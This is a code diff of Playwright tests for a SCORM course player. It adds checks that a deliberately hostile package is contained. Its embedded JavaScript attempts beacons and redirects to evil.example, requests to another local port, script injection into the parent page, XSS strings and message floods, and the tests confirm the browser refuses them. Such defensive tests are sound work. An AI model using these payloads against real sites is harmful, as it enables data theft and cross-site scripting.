@@ -2,6 +2,8 @@
 
 import json
 import os
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -31,6 +33,11 @@ print(json.dumps([
     [s.unit, s.completed_at is not None, s.percent, s.data, s.sequence]
     for s in ScormState.objects.filter(package__title={title!r}).order_by("unit")
 ]))
+"""
+COMPLETED = """
+from learning.queries import packages_completed_by
+from people.models import Person
+print(packages_completed_by(Person.objects.get(email={person!r})).filter(package__title={title!r}).exists())
 """
 
 
@@ -125,21 +132,65 @@ def test_a_course_of_one_unit_is_followed_to_its_end_and_taken_up_where_it_was_l
     leave(one, address)
     one.check()
     assert states(site, "Golf")[0][1] is True
+    counted = COMPLETED.format(person=NADIA, title="Golf")
+    assert site.shell(counted).splitlines()[-1] == "True"
 
 
 @needs_samples
-@pytest.mark.parametrize("name", ["RuntimeMinimumCalls_SCORM12.zip", "singlesco_scorm12.zip"])
-def test_each_unit_of_a_course_opens_and_is_named_beside_the_others(learner, lesson, name):
-    address = lesson("Golf, " + name.partition("_")[0], MOODLE / name)
+@pytest.mark.parametrize(
+    "name", ["RuntimeMinimumCalls_SCORM12.zip", "RuntimeMinimumCalls_SCORM12-mini.zip"]
+)
+def test_a_unit_that_only_begins_and_ends_is_completed_when_it_is_left(learner, lesson, site, name):
+    title = "Golf, " + name.removesuffix(".zip")
+    address = lesson(title, MOODLE / name)
     one = learner(viewport={"width": 360, "height": 740})
     unit = opened(one, address)
     expect(unit.locator("body")).not_to_be_empty()
-    said(one, "opened" if "single" in name else "kept")
+    said(one, "opened")
     one.check()
-    if "single" not in name:
-        one.page.locator(".toc a", has_text="Par?").click()
-        one.page.wait_for_url("**unite=playing_par_item")
-        expect(unit_of(one).locator("body")).to_contain_text("par", ignore_case=True)
+    one.page.locator(".toc a", has_text="Par?").click()
+    one.page.wait_for_url("**unite=playing_par_item")
+    expect(unit_of(one).locator("body")).to_contain_text("par", ignore_case=True)
+    assert [state[:2] for state in states(site, title)] == [["playing_playing_item", True]]
+
+
+@needs_samples
+def test_a_unit_that_never_calls_its_run_time_is_shown_and_completes_nothing(learner, lesson, site):
+    address = lesson("Golf, muet", MOODLE / "singlesco_scorm12.zip")
+    one = learner()
+    expect(opened(one, address).locator("#butNext")).to_be_enabled()
+    leave(one, address)
+    assert [state[1] for state in states(site, "Golf, muet")] == [False]
+
+
+GOODBYE = """<!doctype html><title>Au revoir</title><p id="heard">…</p><script>
+const api = window.parent.API; api.LMSInitialize("");
+document.getElementById("heard").textContent =
+  [api.LMSGetValue("cmi.core.entry"), api.LMSGetValue("cmi.suspend_data")].join("|");
+api.LMSSetValue("cmi.core.lesson_status", "incomplete");
+api.LMSSetValue("cmi.core.lesson_location", "3");
+api.LMSCommit("");
+window.addEventListener("HOW", () => {
+  api.LMSSetValue("cmi.suspend_data", "dit en partant");
+  api.LMSSetValue("cmi.core.exit", "suspend");
+  api.LMSFinish("");
+});
+</script>"""
+
+
+@pytest.mark.parametrize("how", ["unload", "pagehide", "beforeunload"])
+def test_what_a_unit_says_while_it_is_left_is_kept_and_it_resumes(learner, lesson, site, how):
+    title = f"Au revoir, {how}"
+    address = lesson(title, package({"a.html": GOODBYE.replace("HOW", how)}, title=title))
+    one = learner()
+    expect(opened(one, address).locator("#heard")).to_have_text("ab-initio|")
+    leave(one, address)
+    expect(opened(one, address).locator("#heard")).to_have_text("resume|dit en partant")
+
+    one.page.close()  # by the browser: what is said in that moment is lost, the place is not
+    one.page = one.context.new_page()
+    expect(opened(one, address).locator("#heard")).to_contain_text("resume|")
+    assert states(site, title)[0][3]["cmi.core.lesson_location"] == "3"
 
 
 SCO_2004 = """<!doctype html><title>Unité</title><p id="heard">…</p><button>Finir</button><script>
@@ -257,6 +308,32 @@ def test_what_was_not_committed_is_kept_when_the_page_is_left(learner, lesson, s
     assert states(site, "Départ")[0][3]["cmi.suspend_data"] == "1"
 
 
+def test_what_is_too_large_to_be_sent_on_the_way_out_is_sent_without_a_commit(
+    learner, lesson, site
+):
+    content = COUNTING.replace("String(n)", "'é'.repeat(63999) + n").replace(
+        'api.LMSCommit("");', ""
+    )
+    address = lesson("Lourd", package({"a.html": content}, title="Lourd"))
+    one = learner()
+    opened(one, address).locator("button").click()
+    said(one, "kept")
+    assert len(states(site, "Lourd")[0][3]["cmi.suspend_data"]) >= 64_000
+
+
+def test_long_titles_do_not_widen_a_page(learner, lesson):
+    title, part = "Un" + "interminable" * 12, "Une" + "partie" * 20
+    items = "".join(
+        f'<item identifier="{name}" identifierref="r-{name}"><title>{part}{name}</title></item>'
+        for name in "ab"
+    )
+    address = lesson(title, package({}, title=title, units=("a", "b"), items=items))
+    one = learner(viewport={"width": 360, "height": 740})
+    one.visit(address)
+    opened(one, address)
+    one.check()
+
+
 def test_without_script_the_page_says_that_it_is_impossible(learner, lesson):
     address = lesson("Compte", package({"a.html": COUNTING}))
     one = learner(java_script_enabled=False)
@@ -281,31 +358,74 @@ const attempt = async (name, act) => { try { found[name] = String(await act()); 
   await attempt("beacon", () => navigator.sendBeacon("https://evil.example/") ? "sent" : "no");
   await attempt("window", () => window.open("https://evil.example/") ? "opened" : "no");
   await attempt("top", () => { top.location = "https://evil.example/"; return "asked"; });
+  await attempt("port", async () => (await fetch("OTHER/", {mode: "no-cors"})).type);
+  await attempt("image-port", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("yes"); i.onerror = no; i.src = "OTHER/x.png"; }));
+  await attempt("xhr", () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes("yes"); x.onerror = no; x.open("GET", "OTHER/xhr"); x.send(); }));
+  await attempt("socket", () => new Promise((yes, no) => { const w = new WebSocket("OTHER/".replace("http", "ws")); w.onopen = () => yes("yes"); w.onerror = no; setTimeout(no, 2000); }));
   await attempt("worker", () => navigator.serviceWorker.register("sw.js").then(() => "registered"));
-  const above = window.top;
-  for (const shape of [null, 1, "x", [], {}, {kind: "state"}, {kind: "state", data: 1, keep: true},
-      {kind: "__proto__"}, {kind: "constructor"}, {kind: {}}, {kind: "state", data: {a: {b: 1}}, keep: true},
-      {kind: "state", keep: true, data: {"cmi.core.lesson_status": "hacked"}},
-      {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(100000)}},
-      {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(9000000)}},
-      {kind: "state", keep: true, data: {"<img src=x onerror=window.harmed=1>": "<script>window.harmed=1<\\/script>"}}]) {
-    above.postMessage(shape, "*");
-    window.parent.eval && window.parent.eval("above").postMessage(shape, "*");
-  }
-  for (let n = 0; n < 300; n++) above.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": String(n)}}, "*");
+  await attempt("above", () => { window.top.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": "faux"}}, "*"); return "asked"; });
+  await attempt("eval", () => window.parent.eval("1"));
+  await attempt("forged", () => new Promise((yes, no) => {
+    const script = window.parent.document.createElement("script");
+    script.src = location.pathname.replace("a.html", "forge.js");
+    script.onload = () => yes("yes"); script.onerror = no;
+    window.parent.document.head.append(script);
+  }));
   console.log("FOUND" + JSON.stringify(found));
   document.getElementById("f").submit();
 })();
 </script>"""
-NOTHING = {
-    "document": "no", "cookie": "no", "storage": "no", "main": "no", "no-cors": "no", "outside": "no",
-    "image": "no", "window": "no", "worker": "no",
-}  # fmt: skip
+# Runs in the page around the unit, which may post to ours: what it says there is words of a stranger.
+FORGE = """
+for (const shape of [null, 1, "x", [], {}, {kind: "state"}, {kind: "state", data: 1, keep: true},
+    {kind: "__proto__"}, {kind: "constructor"}, {kind: {}}, {kind: "state", data: {a: {b: 1}}, keep: true},
+    {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(9000000)}},
+    {kind: "state", keep: true, data: {"<img src=x onerror=window.harmed=1>": "<script>window.harmed=1</script>"}}]) {
+  above.postMessage(shape, "*");
+}
+for (let n = 0; n < 300; n++) above.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": String(n)}}, "*");
+"""
+NOTHING = dict.fromkeys(
+    ["document", "cookie", "storage", "main", "no-cors", "outside", "image", "window", "worker", "top",
+     "port", "image-port", "xhr", "socket", "eval"],
+    "no",
+)  # fmt: skip
+# What the browser says that it refused.
+REFUSALS = {
+    "requests": "connect-src 'self'",
+    "images": "violates the following Content Security Policy directive",
+    "forms": "form-action 'none'",
+    "workers": "ServiceWorker",
+    "eval": "unsafe-eval",
+}
 
 
-def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, site):
-    content = HOSTILE.replace("MAIN", site.url)
-    address = lesson("Hostile", package({"a.html": content, "sw.js": ""}, title="Hostile"))
+@pytest.fixture
+def other_port():
+    """Another service of the same machine. Yields its address and what it was asked."""
+    asked = []
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *_said):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    server.server_close()
+
+
+def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, site, other_port):
+    other, asked = other_port
+    content = HOSTILE.replace("MAIN", site.url).replace("OTHER", other)
+    files = {"a.html": content, "forge.js": FORGE, "sw.js": ""}
+    address = lesson("Hostile", package(files, title="Hostile"))
     one = learner()
     gone = []
     one.page.on("request", lambda request: gone.append(request.url))
@@ -313,13 +433,18 @@ def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, s
     one.page.on("console", lambda message: heard.append(message.text))
     opened(one, address)
     player = one.page.url
-    for _try in range(100):
+    for _try in range(300):
         if any(text.startswith("FOUND") for text in heard):
             break
         one.page.wait_for_timeout(100)
     found = json.loads(next(text for text in heard if text.startswith("FOUND"))[5:])
     assert {name: found[name] for name in NOTHING} == NOTHING, found
 
+    assert asked == []
+    assert found["forged"] == "yes"
+    said(one, "kept")  # the last of three hundred, sent a few at a time
+    assert states(site, "Hostile")[0][3] == {"cmi.suspend_data": "299"}
+    assert states(site, "Hostile")[0][4] < 20
     assert one.page.url == player
     assert len(one.context.pages) == 1
     assert one.page.evaluate("window.harmed") is None
@@ -331,7 +456,9 @@ def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, s
     one.page.wait_for_url(f"**{address}")
     one.visit("/")
     assert one.page.locator("html").get_attribute("data-theme") != "dark"
-    # What the browser refused is in its console, which is as it should be.
+    for what, words in REFUSALS.items():
+        assert any(words in each for each in one.complaints), (what, one.complaints)
+    print(*one.complaints, sep="\n")
     one.complaints.clear()
 
 
